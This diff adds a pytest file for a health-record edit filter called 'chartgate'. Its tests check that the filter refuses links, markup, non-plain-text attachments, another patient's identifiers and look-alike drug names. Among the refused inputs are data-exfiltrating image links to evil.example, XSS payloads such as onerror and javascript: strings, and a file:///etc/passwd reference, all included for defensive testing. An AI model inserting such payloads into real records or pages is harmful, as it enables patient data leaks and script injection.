@@ -1,0 +1,131 @@
+"""Links, unreadable attachments, other patients and disguised words in what is proposed."""
+
+from typing import Any
+
+import pytest
+
+from chartgate.errors import Unprocessable
+from chartgate.model.proposal import Difference
+from chartgate.policy.smuggling import check_smuggling
+
+ADA = {
+    "resourceType": "Patient",
+    "identifier": [{"value": "MRN-4711"}],
+    "name": [{"family": "Lovelace", "given": ["Ada", "B"]}],
+    "telecom": [{"value": "+1 (555) 010-9999"}],
+}
+BOB = {
+    "resourceType": "Patient",
+    "identifier": [{"value": "MRN-0815"}],
+    "name": [{"family": "Lovelace", "given": ["Bob"]}],
+}
+BODIES: dict[str, dict[str, Any]] = {"Patient/a": ADA, "Patient/b": BOB}
+
+
+def check(text: Any, *, path: str = "note[0].text", about: str | None = "Patient/b") -> None:
+    difference = Difference(reference="Task/1", path=path, before=None, after=text)
+    check_smuggling([difference], about, BODIES)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://evil.example/?q=MRN)",
+        "see HTTPS://evil.example",
+        "[x](//evil.example/a)",
+        "[x] (evil)",
+        "//evil.example/x",
+        "www.evil.example",
+        "javascript:alert(1)",
+        "JavaScript :alert(1)",
+        "data:text/html,x",
+        "<img src=x onerror=alert(1)>",
+        "<script>",
+        "</div>",
+        "<!-- x",
+        "<svg/onload=x>",
+        "&#106;avascript",
+        "ｈｔｔｐｓ：//evil.example",
+        "file:///etc/passwd",
+        "mailto:x@evil.example",
+        "https%3A%2F%2Fevil.example",
+    ],
+)
+def test_link_or_markup_is_refused(text: str) -> None:
+    with pytest.raises(Unprocessable, match="link or markup"):
+        check(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "BP <120 and >80; temp < normal",
+        "Data: none. File: none.",
+        "and/or 1/2 tablet, 20:30",
+        "ratio a:b, [see above], (twice)",
+        "Ω µ naïve Müller",
+        "Привет",
+    ],
+)
+def test_words_of_a_note_pass(text: str) -> None:
+    check(text)
+    check(text, path="code.text")
+
+
+def test_name_in_the_form_of_an_address_passes_where_FHIR_has_one() -> None:
+    check("http://loinc.org", path="type.coding[0].system")
+    check("http://hl7.org/x", path="extension[0].url")
+    for path in ("content[0].attachment.url", "subject.reference", "code.coding[0].display"):
+        with pytest.raises(Unprocessable):
+            check("https://evil.example/?q=1", path=path)
+
+
+def test_link_that_stood_there_before_is_not_held_against_another_change() -> None:
+    old = "see https://hospital.example"
+    difference = Difference(reference="Task/1", path="x", before=old, after=old + ", twice")
+    check_smuggling([difference], None, {})
+
+
+@pytest.mark.parametrize(
+    "kind", ["text/html", "application/pdf", "image/svg+xml", "text/plain+x", "text/plain;x=y"]
+)
+def test_attachment_that_nobody_can_review_is_refused(kind: str) -> None:
+    with pytest.raises(Unprocessable, match="text/plain"):
+        check(kind, path="content[0].attachment.contentType")
+
+
+@pytest.mark.parametrize("kind", ["text/plain", "text/plain; charset=utf-8"])
+def test_plain_text_passes(kind: str) -> None:
+    check(kind, path="content[0].attachment.contentType")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["MRN-4711", "id mrn-4711.", "ＭＲＮ-4711", "call 15550109999", "1 555 010 9999",
+     "Ada Lovelace", "Lovelace, Ada"],
+)  # fmt: skip
+def test_identity_of_another_patient_is_refused(text: str) -> None:
+    with pytest.raises(Unprocessable, match="another patient") as caught:
+        check(text)
+    assert "Lovelace" not in str(caught.value)
+    check(text, about="Patient/a")
+    with pytest.raises(Unprocessable):
+        check(text, about=None)
+
+
+@pytest.mark.parametrize("text", ["Bob Lovelace", "Lovelace", "Ada", "MRN-0815", "4711"])
+def test_own_identity_and_parts_of_a_name_pass(text: str) -> None:
+    check(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["Wаrfarin", "Ｗarfarin", "War\u200bfarin", "\u202eniraf", "Μorphine"]
+)
+def test_disguised_word_is_refused(text: str) -> None:
+    with pytest.raises(Unprocessable, match="look alike"):
+        check(text, path="medicationCodeableConcept.coding[0].display")
+
+
+@pytest.mark.parametrize("value", [1, True, None, 2.5])
+def test_what_is_no_text_passes(value: Any) -> None:
+    check(value)
